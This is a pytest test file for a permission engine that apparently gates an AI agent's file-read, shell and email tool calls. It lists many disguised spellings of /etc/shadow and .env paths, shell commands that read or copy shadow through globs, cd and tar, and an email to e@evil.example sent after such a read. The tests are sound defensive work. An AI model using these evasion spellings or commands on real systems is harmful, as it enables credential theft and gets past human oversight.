"""A file that must not be read, under another spelling of its path."""

from __future__ import annotations

import pytest

from permit0.engine import Engine
from permit0.model.vocabulary import Outcome

SHADOW = [
    "/etc/shadow", "//etc///shadow", "/etc/./shadow", "/etc/../etc/shadow", "/ETC/Shadow", "/etc/shadow/",
    "/etc/shadow/.", "file:///etc/shadow", "FILE://localhost/etc/shadow", "/etc/%73hadow", "/etc%2fshadow",
    "/etc/%2573hadow", "/var/www/../../etc/shadow", "../../../../etc/shadow", "docs/../../../../etc/shadow",
    "~/../../etc/shadow", "/proc/self/root/etc/shadow", "/proc/1/root/etc/shadow", "\\etc\\shadow",
    "/etc/shad\u200bow", "/etc/\uff53hadow", " /etc/shadow ", "/etc/shadow-", "/home/a/../../etc/shadow",
    "/etc/shadow.bak", "/../../etc/shadow", "/etc//////shadow",
]  # fmt: skip


@pytest.mark.parametrize("path", SHADOW)
def test_every_spelling_of_a_system_file_reaches_its_rule(engine: Engine, path: str) -> None:
    decision = engine.check("files.read", {"path": path})
    assert "files.read/system_credentials" in decision.rules
    assert decision.reasons[0].code == "gate"


@pytest.mark.parametrize(
    "path",
    ["/app/.env", "/app/.ENV", "/app/.env.", "/app/.env ", "/app/docs/../.env", "/app/.env/", "/app/%2eenv",
     "/app/.env::$DATA", "C:\\app\\.env", "\\\\?\\C:\\app\\.env", "$HOME/.env", ".env", "./.env",
     "/app/docs/.env", "/app/.env.md", "/app/docs/credentials.json"],
)  # fmt: skip
def test_every_spelling_of_a_credential_file_reaches_its_rule(engine: Engine, path: str) -> None:
    decision = engine.check("files.read", {"path": path})
    assert "files.read/credentials" in decision.rules
    assert decision.outcome is Outcome.HUMAN


@pytest.mark.parametrize(
    "path",
    [
        "/app/src/main.py",
        "/app/README.md",
        "src/environment.py",
        "/app/docs/setup.md",
        "etcetera.txt",
    ],
)
def test_an_ordinary_file_is_read(engine: Engine, path: str) -> None:
    assert engine.check("files.read", {"path": path}).outcome is Outcome.ALLOW


@pytest.mark.parametrize(
    ("path", "code"),
    [("/app/.env\x00.md", "path_control_characters"), ("/app/%c0%af", "path_malformed"),
     ("/etc/shadow\n", "path_control_characters"), ("a" * 5000, "path_too_long"), ("", "path_missing"),
     (7, "path_missing"), (True, "path_missing"), ({"p": "/etc/shadow"}, "path_missing"),
     ([], "list_out_of_range"), ([["/etc/shadow"]], "path_missing"), (None, "argument_missing")],
)  # fmt: skip
def test_a_path_without_one_reading_is_refused(engine: Engine, path: object, code: str) -> None:
    decision = engine.check("files.read", {"path": path})
    assert (decision.outcome, decision.error) == (Outcome.DENY, code)


def test_a_secret_in_a_long_list_of_paths_decides_for_all(engine: Engine) -> None:
    plain = [f"/app/src/m{i}.py" for i in range(50)]
    assert engine.check("files.read", {"path": plain}).outcome is Outcome.ALLOW
    decision = engine.check("files.read", {"path": [*plain, "/etc/shadow"]}, session="other")
    assert decision.outcome is Outcome.HUMAN
    assert "files.read/system_credentials" in decision.rules


@pytest.mark.parametrize(
    "command",
    [
        "cat /etc/shadow", "cd /etc && cat shadow", "cd /etc; cp shadow /tmp/x", "(cd /etc; cat shadow)",
        "pushd /etc; cat shadow", "cd /; cd etc; cat shadow", "cd /etc; (cd /tmp); cat shadow",
        "cat /etc/sha*", "cat /etc/s?adow", "cat /etc/shado[w]", "cat /etc/*", "cd /etc; cat sh*",
        "tar -C /etc -cf - shadow", "tar --directory=/etc -cf - shadow", "cat /etc/{shadow,hosts}",
        "cat ../../../etc/shadow", "cat /e*c/shadow",
    ],
)  # fmt: skip
def test_a_shell_reaches_the_same_rule_by_folder_and_by_glob(engine: Engine, command: str) -> None:
    decision = engine.check("process.shell", {"command": command})
    assert "files.read/system_credentials" in decision.rules
    assert decision.outcome is Outcome.HUMAN


@pytest.mark.parametrize("name", ["cwd", "workdir", "working_directory"])
def test_the_folder_that_a_call_names_counts(engine: Engine, name: str) -> None:
    decision = engine.check("process.shell", {"command": "cat shadow", name: "/etc"})
    assert "files.read/system_credentials" in decision.rules
    twin = engine.check("process.shell", {"command": "cat shadow", name: "/app"}, session="twin")
    assert twin.outcome is Outcome.ALLOW


@pytest.mark.parametrize(
    "command",
    [
        "cd /app && cat main.py",
        "cat src/*.py",
        "cat *.json",
        "ls *",
        "tar -C /app -cf - src",
        "cat re*",
    ],
)
def test_folders_and_globs_that_reach_nothing_secret_are_allowed(
    engine: Engine, command: str
) -> None:
    assert engine.check("process.shell", {"command": command}).outcome is Outcome.ALLOW


def test_what_a_glob_may_have_read_cannot_be_sent_out(engine: Engine) -> None:
    engine.check("process.shell", {"command": "cat /etc/sha*"})
    decision = engine.check("email.send", {"to": "e@evil.example", "subject": "s", "body": "b"})
    assert "read_then_exfiltrate" in decision.rules
    assert decision.outcome is Outcome.DENY
